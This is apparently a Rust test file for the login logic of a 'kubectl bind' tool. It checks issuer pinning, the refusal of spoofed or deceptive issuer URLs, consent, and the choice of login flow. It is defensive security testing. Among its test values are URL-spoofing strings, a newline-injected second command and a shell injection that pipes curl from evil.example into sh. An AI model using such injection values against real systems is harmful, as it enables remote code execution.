use bindery_proto::v1alpha2::{AuthenticationMethod, ServiceAccountAuthentication};

use super::*;
use crate::login::store::KnownServer;

const SERVER: &str = "https://bind.example.com";
const OTHER: &str = "https://other.example.com";
const LOGIN: &str = "https://login.example.com";
const EVIL: &str = "https://login.example.com.evil.example";

fn oidc(issuer: &str, client_id: &str) -> OidcAuthentication {
    OidcAuthentication {
        issuer: issuer.to_owned(),
        client_id: client_id.to_owned(),
        scopes: vec!["openid".to_owned(), "groups".to_owned()],
        flows: Vec::new(),
    }
}

fn provider(issuers: Vec<OidcAuthentication>) -> Provider {
    let accounts = Method::ServiceAccount(ServiceAccountAuthentication::default());
    let methods = issuers.into_iter().map(Method::Oidc).chain([accounts]);
    Provider {
        authentication_methods: methods
            .map(|method| AuthenticationMethod { method: Some(method) })
            .collect(),
        ..Provider::default()
    }
}

fn known(issuer: &str, client_id: &str) -> KnownServer {
    KnownServer {
        address: SERVER.to_owned(),
        issuer: IssuerPin {
            url: issuer.to_owned(),
            client_id: client_id.to_owned(),
            certificate_authority: Some("/login-ca.crt".into()),
        },
        certificate_authority: None,
        client_certificate: None,
        client_key: None,
        allow_plaintext: false,
    }
}

fn servers(known: impl IntoIterator<Item = KnownServer>) -> Servers {
    let mut servers = Servers::default();
    for server in known {
        servers.put(server);
    }
    servers
}

/// Chooses with flag --issuer, and with --client-id.
fn choose(
    offered: &[(&str, &str)],
    known: &Servers,
    (named, client_id): (Option<&str>, Option<&str>),
) -> Result<Offer, LoginError> {
    let provider = provider(offered.iter().map(|(issuer, client)| oidc(issuer, client)).collect());
    let named = Named {
        issuer: named,
        client_id,
        authority: None,
    };
    issuer(SERVER, &provider, known, named)
}

#[track_caller]
fn check(
    offered: &[(&str, &str)],
    pinned: Option<(&str, &str)>,
    named: (Option<&str>, Option<&str>),
    expect: Result<(&str, &str), &str>,
) {
    let known = servers(pinned.map(|(issuer, client)| known(issuer, client)));
    let chosen = choose(offered, &known, named);
    match (&chosen, expect) {
        (Ok(offer), Ok(expect)) => assert_eq!((offer.pin.url.as_str(), offer.pin.client_id.as_str()), expect),
        (Err(error), Err(expect)) => assert!(error.to_string().contains(expect), "{error}"),
        _ => panic!("{chosen:?}, not {expect:?}"),
    }
}

#[test]
fn the_first_login_is_at_the_issuer_that_the_server_names() {
    let (none, ours) = ((None, None), (LOGIN, "bindery"));
    check(&[], None, none, Err("offers no login"));
    check(&[ours], None, none, Ok(ours));
    check(&[ours, (EVIL, "x")], None, none, Err("at several issuers"));
    check(&[ours, (EVIL, "x")], None, (Some(EVIL), None), Ok((EVIL, "x")));
    check(&[ours], None, (Some(EVIL), None), Err("does not let you log in at"));
    check(&[ours, (LOGIN, "x")], None, (Some(LOGIN), Some("x")), Ok((LOGIN, "x")));
    check(&[ours], None, (None, Some("bindery")), Ok(ours));
    check(
        &[ours],
        None,
        (None, Some("x")),
        Err("with client \"x\", but with bindery"),
    );
}

#[test]
fn a_server_that_names_another_issuer_later_is_refused_until_the_user_confirms_it() {
    let (none, ours) = ((None, None), (LOGIN, "bindery"));
    let pin = Some(ours);
    check(&[ours], pin, none, Ok(ours));
    let changed = "but you first logged in at https://login.example.com:";
    check(&[(EVIL, "bindery")], pin, none, Err(changed));
    check(&[(EVIL, "bindery")], pin, (None, Some("bindery")), Err(changed));
    check(&[(EVIL, "x"), ours], pin, none, Ok(ours));
    check(&[(EVIL, "bindery")], pin, (Some(EVIL), None), Ok((EVIL, "bindery")));
    check(&[], pin, none, Err("offers no login"));
}

#[test]
fn another_client_is_confirmed_by_its_own_name_and_not_by_that_of_the_issuer() {
    let (ours, kubernetes) = ((LOGIN, "bindery"), (LOGIN, "kubernetes"));
    let pin = Some(ours);
    // A token for another client would open another program.
    let changed = "but you first logged in to client \"bindery\"";
    check(&[kubernetes], pin, (None, None), Err(changed));
    check(&[kubernetes], pin, (Some(LOGIN), None), Err(changed));
    check(&[kubernetes], pin, (None, Some("kubernetes")), Ok(kubernetes));
    check(&[kubernetes, ours], pin, (None, None), Ok(ours));
    check(&[(EVIL, "x")], pin, (Some(EVIL), None), Err(changed));
    check(&[(EVIL, "x")], pin, (Some(EVIL), Some("x")), Ok((EVIL, "x")));
}

#[test]
fn the_client_of_another_server_is_refused_until_the_user_names_it() {
    let ours = (LOGIN, "bindery");
    let other = || KnownServer {
        address: OTHER.to_owned(),
        ..known(LOGIN, "bindery")
    };
    let first = servers([other()]);
    for named in [(None, None), (Some(LOGIN), None)] {
        let error = choose(&[ours], &first, named).unwrap_err();
        let said = error.to_string();
        assert!(said.contains("act as you at https://other.example.com"), "{said}");
        let mend = error.mend().unwrap();
        let command = format!("kubectl bind login {SERVER} --issuer {LOGIN} --client-id bindery");
        assert!(mend.ends_with(&command), "{mend}");
    }
    assert!(choose(&[ours], &first, (None, Some("bindery"))).is_ok());
    // Another client of the same issuer, and the same name at another issuer, are no other server's.
    assert!(choose(&[(LOGIN, "b")], &first, (None, None)).is_ok());
    assert!(choose(&[(EVIL, "bindery")], &first, (None, None)).is_ok());
    // What was confirmed stays so, but a change to the other server's client does not.
    assert!(choose(&[ours], &servers([other(), known(LOGIN, "bindery")]), (None, None)).is_ok());
    let moved = servers([other(), known(EVIL, "bindery")]);
    let error = choose(&[ours], &moved, (Some(LOGIN), None)).unwrap_err();
    assert!(matches!(error, LoginError::ClientOfOther { .. }), "{error}");
}

#[test]
fn issuers_and_clients_that_hide_what_they_are_are_not_offered() {
    for url in [
        "http://login.example.com",
        "https://user@login.example.com",
        "https://:login.example.com@evil.example",
        "https://evil.example\\@login.example.com",
        "https://evil.example/?https://login.example.com",
        "https://evil.example/#login.example.com",
        "https://login.example.com\nkubectl bind login https://evil.example",
        "https://login.exa\tmple.com",
        "https://login.example.com ",
        "https://",
        "",
    ] {
        check(&[(url, "bindery")], None, (None, None), Err("is not an https:// URL"));
        // Another issuer beside it is the only one, then.
        check(&[(url, "bindery"), (LOGIN, "b")], None, (None, None), Ok((LOGIN, "b")));
        check(
            &[(url, "b"), (LOGIN, "b")],
            None,
            (Some(url), None),
            Err("does not let you log in at"),
        );
    }
    for client_id in ["", "bin\ndery", "b\u{131}ndery", "a\u{0}"] {
        check(&[(LOGIN, client_id)], None, (None, None), Err("names client"));
    }
}

#[test]
fn the_host_is_shown_in_ascii() {
    for (url, host) in [
        (LOGIN, "login.example.com"),
        ("https://login.example.com:8443/tenant", "login.example.com:8443"),
        ("https://login.ex\u{430}mple.com", "login.xn--exmple-4nf.com"),
        ("https://[::1]", "[::1]"),
    ] {
        let offer = choose(&[(url, "bindery")], &Servers::default(), (None, None)).unwrap();
        assert_eq!((offer.host.as_str(), offer.pin.url.as_str()), (host, url));
    }
}

#[test]
fn a_first_login_is_confirmed_by_the_user_or_by_flags() {
    let check = |is_known, issuer: Option<&str>, client_id: Option<&str>, is_terminal, expect| {
        let named = Named {
            issuer,
            client_id,
            authority: None,
        };
        let consent = consent(is_known, named, is_terminal);
        assert_eq!(consent, expect, "{is_known} {issuer:?} {client_id:?} {is_terminal}");
    };
    for is_terminal in [false, true] {
        check(true, None, None, is_terminal, Consent::Given);
        check(false, Some(LOGIN), Some("bindery"), is_terminal, Consent::Given);
    }
    for issuer in [None, Some(LOGIN)] {
        check(false, issuer, None, true, Consent::Ask);
    }
    check(false, None, Some("bindery"), true, Consent::Ask);
    check(false, Some(LOGIN), None, false, Consent::Given);
    check(false, None, None, false, Consent::Missing);
    check(false, None, Some("bindery"), false, Consent::Missing);
}

#[test]
fn the_mend_of_a_changed_issuer_can_be_pasted() {
    let evil = "https://login.example.com/$(curl${IFS}evil.example|sh)'";
    let error = choose(&[(evil, "x")], &servers([known(LOGIN, "bindery")]), (None, None)).unwrap_err();
    let mend = error.mend().unwrap();
    let command = mend.lines().last().unwrap();
    let expect = ["kubectl", "bind", "login", SERVER, "--issuer", evil];
    assert_eq!(shlex::split(command).unwrap(), expect, "{mend}");
}

#[test]
fn the_ca_of_the_first_login_is_kept_for_its_issuer_alone() {
    let provider = provider(vec![oidc(LOGIN, "bindery"), oidc(EVIL, "bindery")]);
    let known = servers([known(LOGIN, "bindery")]);
    let authority = |named, authority| {
        let named = Named {
            issuer: named,
            client_id: None,
            authority,
        };
        let offer = issuer(SERVER, &provider, &known, named).unwrap();
        offer.pin.certificate_authority
    };
    assert_eq!(authority(None, None).as_deref(), Some(Path::new("/login-ca.crt")));
    assert_eq!(
        authority(None, Some(Path::new("/new.crt"))).as_deref(),
        Some(Path::new("/new.crt"))
    );
    assert_eq!(authority(Some(EVIL), None), None);
}

#[test]
fn openid_is_asked_for_once() {
    let offer = choose(&[(LOGIN, "bindery")], &Servers::default(), (None, None)).unwrap();
    assert_eq!(offer.scopes, ["groups"]);
}

#[track_caller]
fn check_flow(flows: &[OidcFlow], has_device: bool, flags: (bool, bool), display: bool, expect: Result<Flow, &str>) {
    let mut offered = oidc(LOGIN, "bindery");
    for flow in flows {
        offered.push_flows(*flow);
    }
    let provider = provider(vec![offered]);
    let offer = issuer(SERVER, &provider, &Servers::default(), Named::default()).unwrap();
    let surroundings = Surroundings::new(true, |name| (display && name == "DISPLAY").then(|| ":0".into()));
    let chosen = flow(SERVER, &offer, has_device, flags, &surroundings);
    match (&chosen, expect) {
        (Ok(chosen), Ok(expect)) => assert_eq!(*chosen, expect),
        (Err(error), Err(expect)) => assert!(error.to_string().contains(expect), "{error}"),
        _ => panic!("{chosen:?}, not {expect:?}"),
    }
}

#[test]
fn a_browser_is_preferred_where_the_user_sees_it() {
    let (code, device) = (OidcFlow::AuthorizationCode, OidcFlow::DeviceCode);
    let (by_device, by_browser) = ((true, false), (false, true));
    for flows in [&[][..], &[code, device]] {
        check_flow(flows, true, (false, false), true, Ok(Flow::Code));
        check_flow(flows, true, (false, false), false, Ok(Flow::Device));
        check_flow(flows, false, (false, false), false, Ok(Flow::Code));
        check_flow(flows, true, by_device, true, Ok(Flow::Device));
        check_flow(flows, true, by_browser, false, Ok(Flow::Code));
        check_flow(flows, false, by_device, true, Err("has no login by device code"));
    }
    check_flow(&[code], true, (false, false), false, Ok(Flow::Code));
    check_flow(
        &[code],
        true,
        by_device,
        false,
        Err("does not offer a login by device code"),
    );
    check_flow(&[device], true, (false, false), true, Ok(Flow::Device));
    check_flow(
        &[device],
        true,
        by_browser,
        true,
        Err("does not offer a login by browser"),
    );
    check_flow(
        &[device],
        false,
        (false, false),
        true,
        Err("has no login by device code"),
    );
}
